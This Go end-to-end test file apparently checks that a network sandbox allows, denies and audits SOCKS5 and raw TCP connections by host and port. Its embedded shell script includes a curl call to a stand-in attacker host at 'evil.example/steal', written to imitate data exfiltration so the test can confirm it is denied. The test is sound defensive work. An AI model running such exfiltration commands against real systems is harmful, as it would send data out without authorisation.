package e2e

import (
	"net/http"
	"strings"
	"testing"

	"github.com/airlock-dev/airlock/audit"
	"github.com/airlock-dev/airlock/test/fakenet"
)

// recAt returns the records of kind and decision for host:port.
func recAt(recs []audit.Record, kind, decision, host string, port int) []audit.Record {
	var out []audit.Record
	for _, r := range find(recs, match{kind: kind, decision: decision, host: host}) {
		if r.Port == port {
			out = append(out, r)
		}
	}
	return out
}

// TestRootTCPByNameAndSOCKS5, from inside `airlock run`:
// curl through the explicit listener's SOCKS5 (--socks5-hostname) to an
// allowed registry and to a denied host; and a raw TCP client (python3's
// socket, neither TLS nor HTTP) to an allowed name:port, which reaches the
// fake server by the name the sandbox resolved, while the same name on
// another port and a registry name on a port no rule opens are refused with
// the target seeing zero connections. (ssh and git over ssh are not run
// here: TestRootGitCloneOverSSH runs them.)
func TestRootTCPByNameAndSOCKS5(t *testing.T) {
	e := newEnv(t, "")
	const dbPort, otherPort = 5432, 2222
	for _, p := range []struct {
		h    *fakenet.Host
		port int
	}{{w.other, dbPort}, {w.other, otherPort}, {w.pypi, dbPort}} {
		if err := w.net.AddTCPPort(p.h, p.port); err != nil {
			t.Fatal(err)
		}
	}
	dbBefore, otherBefore, pypiBefore := w.other.PortConns(dbPort), w.other.PortConns(otherPort), w.pypi.PortConns(dbPort)
	evilBefore := snap(w.evil)
	pypiSeen := len(w.pypi.Seen())
	res := e.sh([]string{"--id", sandboxID("tcpname"), "--allow", "other.example.test:5432"}, `
P=${HTTPS_PROXY#http://}; P=${P%/}
noenv() { env -u HTTP_PROXY -u HTTPS_PROXY -u ALL_PROXY -u http_proxy -u https_proxy -u all_proxy "$@"; }
noenv curl -sS --max-time 60 --socks5-hostname "$P" -o /tmp/body -w 'socks_get=%{http_code}\n' https://pypi.org/simple/
echo "socks_body=$(cat /tmp/body)"
noenv curl -sS --max-time 30 --socks5-hostname "$P" -o /dev/null https://evil.example/steal; echo "socks_evil_exit=$?"
python3 - <<'EOF'
import socket
for name, port in (("other.example.test", 5432), ("other.example.test", 2222), ("pypi.org", 5432)):
    key = "%s_%d" % (name.split(".")[0], port)
    try:
        s = socket.create_connection((name, port), timeout=20)
        s.sendall(b"SSH-2.0-alk-e2e\r\n")
        print("%s=%r" % (key, s.recv(100)))
    except OSError as e:
        print("%s_error=%s" % (key, type(e).__name__))
EOF
true
`)
	wantCode(t, res, 0)
	m := kv(res.stdout)
	wantKV(t, m, "socks_get", "200", res)
	wantKV(t, m, "socks_body", "hello from pypi.org/simple/", res)
	if v := m["socks_evil_exit"]; v == "0" || v == "" {
		t.Errorf("SOCKS5 to evil.example: curl exit %q, want a failure\n%s", v, res)
	}
	wantKV(t, m, "other_5432", `b'SSH-2.0-alk-e2e\r\n'`, res)
	for _, k := range []string{"other_2222", "pypi_5432"} {
		if v, ok := m[k]; ok && v != "b''" {
			t.Errorf("%s: got an answer %s, want none\n%s", k, v, res)
		}
	}

	// What the targets saw.
	if d := w.other.PortConns(dbPort) - dbBefore; d != 1 {
		t.Errorf("other.example.test:%d: got %d connections, want 1", dbPort, d)
	}
	if d := w.other.PortConns(otherPort) - otherBefore; d != 0 {
		t.Errorf("other.example.test:%d: got %d connections, want 0", otherPort, d)
	}
	if d := w.pypi.PortConns(dbPort) - pypiBefore; d != 0 {
		t.Errorf("pypi.org:%d: got %d connections, want 0", dbPort, d)
	}
	if d := snap(w.evil).sub(evilBefore); d.conns != 0 || d.requests != 0 {
		t.Errorf("evil.example: got %d connections, %d requests, want 0 and 0", d.conns, d.requests)
	}
	got := 0
	for _, r := range seenSince(w.pypi, pypiSeen) {
		if r.Method == http.MethodGet && r.URL.Path == "/simple/" {
			got++
		}
	}
	if got != 1 {
		t.Errorf("pypi.org received %d GET /simple/, want 1 (through SOCKS5)", got)
	}

	recs := e.records()
	allowed := recAt(recs, audit.KindTCP, audit.DecisionAllow, "other.example.test", dbPort)
	if len(allowed) != 1 || allowed[0].IP != w.other.IP.String() || !strings.Contains(string(allowed[0].Extra["original_ip"]), w.other.IP.String()) {
		t.Errorf("allowed raw TCP: got %d records %v, want one for other.example.test:%d dialed at %s\n%s", len(allowed), allowed, dbPort, w.other.IP, dump(recs))
	}
	mustDenyWith(t, recs, audit.KindTCP, "other.example.test", otherPort, "port_not_allowed")
	mustDenyWith(t, recs, audit.KindTCP, "pypi.org", dbPort, "port_not_allowed")
	socks := recAt(recs, audit.KindConnect, audit.DecisionAllow, "pypi.org", 443)
	if len(socks) != 1 || string(socks[0].Extra["proxy_protocol"]) != `"socks5"` {
		t.Errorf("SOCKS5 CONNECT pypi.org:443: got %v, want one allow with extra.proxy_protocol socks5\n%s", socks, dump(recs))
	}
	mustFind(t, recs, match{kind: audit.KindHTTP, decision: audit.DecisionAllow, host: "pypi.org", method: "GET", path: "/simple/"})
	evil := recAt(recs, audit.KindConnect, audit.DecisionDeny, "evil.example", 443)
	if len(evil) != 1 || string(evil[0].Extra["proxy_protocol"]) != `"socks5"` {
		t.Errorf("SOCKS5 CONNECT evil.example:443: got %v, want one deny with extra.proxy_protocol socks5\n%s", evil, dump(recs))
	}
	mustNotFind(t, recs, match{decision: audit.DecisionAllow, host: "evil.example"})
}
